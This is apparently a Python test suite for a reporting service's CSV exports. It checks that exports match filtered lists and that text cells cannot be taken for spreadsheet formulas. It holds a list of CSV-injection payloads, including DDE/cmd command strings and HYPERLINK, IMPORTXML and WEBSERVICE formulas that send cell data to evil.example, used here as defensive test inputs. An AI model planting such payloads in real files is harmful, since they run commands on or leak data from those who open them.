"""Files: exactly the rows that are filtered, for programs that take a cell for a formula too."""

# ruff: noqa: RUF001 - signs that look alike are the subject

import csv
import io
import json
from typing import Any
from uuid import UUID

import httpx
import pytest

from reporting.queries.exports import DATASETS
from reporting.runtime import Connection
from tests.reporting.test_reports import POTHOLE, pothole
from tests.support.backlog import fill
from tests.support.county import County, inside
from tests.support.people import Headers, People, job_of, report

Row = dict[str, str]


@pytest.fixture
def people(county: County) -> People:
    return People(county)


async def rows(client: httpx.AsyncClient, who: Headers, of: str, **filters: Any) -> list[Row]:
    """The rows of a CSV."""
    answer = await client.get(f"/v1/exports/{of}.csv", params=filters, headers=who)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf"), "Excel would take it for Latin-1"
    return list(csv.DictReader(io.StringIO(answer.text.removeprefix("\ufeff"), newline="")))


async def listed(client: httpx.AsyncClient, who: Headers, **filters: Any) -> list[str]:
    """The references of all pages of the list."""
    found: list[str] = []
    cursor: dict[str, str] = {}
    while True:
        asked = {**filters, **cursor, "limit": 200}
        page = (await client.get("/v1/jobs", params=asked, headers=who)).json()
        found += [item["reference"] for item in page["items"]]
        if page["next"] is None:
            return found
        cursor = {"cursor": page["next"]}


FILTERS: list[dict[str, Any]] = [
    {},
    {"status": "open"},
    {"status": "fixed", "priority": "P1,P3"},
    {"overdue": "true"},
    {"overdue": "false", "status": "open"},
    {"ward": "W2"},
    {"ward": ["W1", "D2"], "category": "pothole"},
    {"team": "shire-triage"},
    {"bbox": "-0.99,52.004,-0.95,52.013"},
    {"from": "2020-01-01", "to": "2020-01-02"},
    {"from": "2020-01-01"},
    {"authority": "west"},
    {"ward": "nowhere"},
]


async def test_a_file_holds_what_the_list_shows_in_its_order(
    client: httpx.AsyncClient, county: County, people: People
) -> None:
    await fill(county, jobs=700, closed=400)
    for who in (
        await people.staff("supervisor", "shire"),
        await people.staff("supervisor", "shire", wards=("D1",)),
        await people.staff("auditor", "shire"),
        await people.staff("admin", "west"),
    ):
        for filters in FILTERS:
            found = [row["reference"] for row in await rows(client, who, "jobs", **filters)]
            assert found == await listed(client, who, **filters), filters
    whole = await rows(client, await people.staff("admin", "shire"), "jobs")
    assert len(whole) == 700
    assert list(whole[0]) == [column.name for column in DATASETS["jobs"].columns]
    assert (whole[0]["ward"], whole[0]["division"], whole[0]["team_name"]) == (
        "W2",
        "D1",
        "Highways",
    )
    assert whole[0]["due_at"] == "2024-01-01T01:00:00Z"


async def test_reports_go_by_the_job_they_stand_on(
    client: httpx.AsyncClient, county: County, people: People
) -> None:
    one, other = [await report(client, pothole(ward)) for ward in ("W1", "E1")]
    again = await report(client, pothole("W1"))
    assert job_of(again) == job_of(one)
    who = await people.staff("supervisor", "shire")
    found = {row["reference"]: row for row in await rows(client, who, "reports")}
    assert found.keys() == {each["reference"] for each in (one, other, again)}
    assert found[again["reference"]]["job"] == one["job"]["reference"]
    assert json.loads(found[one["reference"]]["answers"]) == POTHOLE
    place = inside("W1")
    assert (float(found[one["reference"]]["lng"]), float(found[one["reference"]]["lat"])) == (
        place["lng"],
        place["lat"],
    )
    west = await rows(client, who, "reports", ward="D1", status="received")
    assert {row["reference"] for row in west} == {one["reference"], again["reference"]}
    assert await rows(client, who, "reports", status="fixed") == []


#: From OWASP's page on CSV injection and what was seen in the wild, and the signs by themselves.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://evil.example")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttab",
    "\rreturn",
    " =1+1",
    "   +1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
    '"=1+1',
    "'=1+1",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "a;=cmd|' /C calc'!A0",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    'a","=1+1',
    'a";"=1+1',
    "a; +1+1",
    "a, @A1",
    "=",
    "--1",
    "=\u200b1+1",
]
SIGNS = "=+-@＝＋－＠"


def is_formula(cell: str) -> bool:
    """Whether some program would take it for one."""
    return cell[:1] in {"\t", "\r", "\n"} or cell.lstrip()[:1] in set(SIGNS)


def cells_apart_by(sign: str, text: str) -> list[str]:
    """The cells that a program finds in our text whose lists are kept apart by another sign."""
    return [cell.strip().strip('"').strip() for cell in text.split(sign)]


@pytest.mark.parametrize("of", sorted(DATASETS))
async def test_no_text_is_a_formula(
    client: httpx.AsyncClient, county: County, people: People, owner: Connection, of: str
) -> None:
    made = [await report(client, pothole("W1", 0.1 + 0.02 * n)) for n in range(len(PAYLOADS))]
    who = await people.staff("supervisor", "shire")
    tables = {
        "category": "update category set definition = jsonb_set(definition, '{name}',"
        " to_jsonb(%(text)s::text)) where code = 'pothole'",
        "team": "update team set name = %(text)s, slug = %(text)s where id = %(team)s",
        "ward": "update area set name = %(text)s, code = %(text)s where id = any(%(areas)s)",
        "job": "update job set referred_to = %(text)s, flags = array[%(text)s],"
        " category = %(text)s where id = %(job)s",
        "report": "update report set flags = array[%(text)s], category = %(text)s"
        " where id = %(report)s",
        "words": "insert into report_words (report_id, description, place_text)"
        " values (%(report)s, %(text)s, %(text)s) on conflict (report_id) do update"
        " set description = excluded.description, place_text = excluded.place_text",
    }
    texts = [column.name for column in DATASETS[of].columns if column.kind == "text"]
    # Between two of our own cells a number may stand.
    no_minus = set(SIGNS) - {"-"}
    seen: dict[str, set[str]] = {name: set() for name in texts}
    for payload, each in zip(PAYLOADS, made, strict=True):
        values = {
            "text": payload,
            "job": job_of(each),
            "report": UUID(each["id"]),
            "team": county.teams["shire/highways"],
            "areas": [county.areas["W1"], county.areas["D1"]],
        }
        for statement in tables.values():
            await owner.execute(statement, values)
        answer = await client.get(f"/v1/exports/{of}.csv", headers=who)
        text = answer.text.removeprefix("\ufeff")
        found = list(csv.DictReader(io.StringIO(text, newline="")))
        assert len(found) == len({job_of(each) for each in made} if of == "jobs" else made)
        wrong = [
            (name, cell)
            for row in found
            for name, cell in row.items()
            if name in texts and is_formula(cell)
        ]
        assert not wrong, (payload, wrong)
        for sign in ";\t|\n":
            apart = [cell for cell in cells_apart_by(sign, text) if {*cell[:1]} & no_minus]
            assert not apart, (payload, sign, apart)
        for row in found:
            for name in texts:
                seen[name].add(row[name])
        assert all(float(row["lng"]) < 0 for row in found), "numbers are as they are"
    # Each payload was in each of these columns, and two of them may look alike when harmless.
    assert [name for name, cells in seen.items() if len(cells) < len(PAYLOADS) - 1] == []
